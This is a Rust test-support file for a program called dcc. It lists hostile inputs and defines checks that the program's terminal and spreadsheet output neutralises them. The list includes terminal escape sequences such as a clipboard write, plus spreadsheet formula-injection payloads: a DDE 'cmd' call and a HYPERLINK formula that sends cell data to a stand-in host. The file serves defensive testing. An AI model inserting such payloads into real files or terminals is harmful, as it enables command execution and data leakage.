//! The hostile corpus: texts an adversary puts in a name, a model or a note,
//! and the checks that what dcc shows or writes carries none of it as
//! something a terminal or a spreadsheet would obey.

use dcc_desk::domain::text::is_unsafe;

/// What a text at the door is refused for.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Why {
    Control,
    Bidi,
    Invisible,
}

impl Why {
    /// How the refusal names it, in English and in Chinese.
    pub fn words(self) -> (&'static str, &'static str) {
        match self {
            Why::Control => ("control character", "控制字符"),
            Why::Bidi => ("text-direction control", "文字方向控制符"),
            Why::Invisible => ("invisible character", "不可见字符"),
        }
    }
}

/// Texts every door refuses, with why: terminal escapes (OSC 52 writes the
/// clipboard, OSC 0 the window title, OSC 8 a link, CSI 2J clears the
/// screen), C0, DEL and C1 controls, text-direction controls and invisible
/// characters.
pub const REFUSED: &[(&str, Why)] = &[
    ("M\x1b]52;c;aGVsbG8K\x07", Why::Control),
    ("\x1b[2J清屏", Why::Control),
    ("\x1b]0;pwned\x07", Why::Control),
    ("\x1b]8;;http://x/\x1b\\link\x1b]8;;\x1b\\", Why::Control),
    ("铃\x07铃", Why::Control),
    ("空\0字节", Why::Control),
    ("退格\x08\x08", Why::Control),
    ("删除\x7f", Why::Control),
    ("回车\r覆盖", Why::Control),
    ("C1\u{9b}2J", Why::Control),
    ("OSC\u{9d}0;t\u{9c}", Why::Control),
    ("张\u{202E}三", Why::Bidi),
    ("a\u{2066}b\u{2069}", Why::Bidi),
    ("标记\u{200F}", Why::Bidi),
    ("李\u{200B}四", Why::Invisible),
    ("连\u{200D}接", Why::Invisible),
    ("\u{FEFF}王五", Why::Invisible),
    ("软\u{AD}连字", Why::Invisible),
    ("词\u{2060}连", Why::Invisible),
];

/// Texts that are fine as text but a spreadsheet would run as a formula.
pub const FORMULAS: &[&str] = &[
    "=HYPERLINK(\"http://x/?\"&A1,\"click\")",
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3+cmd|' /C calc'!A0",
    "=1+1",
];

/// Stored text that got past the door (another program, an older dcc):
/// every kind of character a terminal would obey, in one string.
pub const STORED: &str = "客户\x1b]52;c;aGVsbG8K\x07\x1b[2J\x1b]0;title\x07\x1b]8;;http://x/\x1b\\链接\x1b]8;;\x1b\\\u{202E}\u{200B}\u{9b}31m\x07\x08\x7f\r";

/// No byte a terminal would obey: no C0 but line feed, tab and the CR of a
/// CRLF, no DEL, and (as text) no C1, text-direction or invisible character
/// (the BOM that starts a CSV excepted).
pub fn assert_terminal_safe(what: &str, bytes: &[u8]) {
    for (i, b) in bytes.iter().enumerate() {
        let allowed = matches!(b, b'\n' | b'\t')
            || (*b == b'\r' && bytes.get(i + 1) == Some(&b'\n'))
            || (*b >= 0x20 && *b != 0x7f);
        assert!(allowed, "{what}: byte {b:#04x} at {i}");
    }
    let text = std::str::from_utf8(bytes).unwrap_or_else(|e| panic!("{what}: not UTF-8: {e}"));
    let text = text.strip_prefix('\u{feff}').unwrap_or(text);
    let bad: Vec<char> = text
        .chars()
        .filter(|c| is_unsafe(*c) && !matches!(c, '\n' | '\t' | '\r'))
        .collect();
    assert!(bad.is_empty(), "{what}: {bad:?}");
}

/// Whether a spreadsheet would read a cell as a formula: it starts with
/// `=`, `+`, `-`, `@`, a tab or a carriage return, and is not a plain
/// number (`-12.50`) or a lone `-` (how a report says "no value", text to
/// a spreadsheet).
pub fn runs_as_formula(cell: &str) -> bool {
    let plain_number = cell.parse::<f64>().is_ok() && !cell.contains(['\t', '\r']);
    cell.starts_with(['=', '+', '-', '@', '\t', '\r']) && !plain_number && cell != "-"
}

/// Every cell of a CSV dcc wrote (a BOM first is allowed), and none a
/// spreadsheet would run.
pub fn assert_csv_inert(what: &str, csv: &str) -> Vec<String> {
    let body = csv.strip_prefix('\u{feff}').unwrap_or(csv);
    let mut cells = Vec::new();
    let mut r = csv::ReaderBuilder::new()
        .has_headers(false)
        .flexible(true)
        .from_reader(body.as_bytes());
    for rec in r.records() {
        let rec = rec.unwrap_or_else(|e| panic!("{what}: not CSV: {e}"));
        for c in rec.iter() {
            assert!(
                !runs_as_formula(c),
                "{what}: a cell runs as a formula: {c:?}"
            );
            cells.push(c.to_string());
        }
    }
    cells
}

/// Every cell of every sheet of an xlsx file is a value, never a formula;
/// the cells' text, for the caller to look for what it wrote.
pub fn xlsx_cells(what: &str, path: &std::path::Path) -> Vec<String> {
    use calamine::{Reader, Xlsx};
    let mut book: Xlsx<_> = calamine::open_workbook(path).unwrap_or_else(|e| panic!("{what}: {e}"));
    let mut cells = Vec::new();
    for name in book.sheet_names() {
        let formulas = book.worksheet_formula(&name).unwrap();
        assert!(
            formulas.used_cells().all(|(_, _, f)| f.is_empty()),
            "{what}: sheet {name} holds a formula"
        );
        let range = book.worksheet_range(&name).unwrap();
        for (_, _, c) in range.used_cells() {
            cells.push(c.to_string());
        }
    }
    cells
}
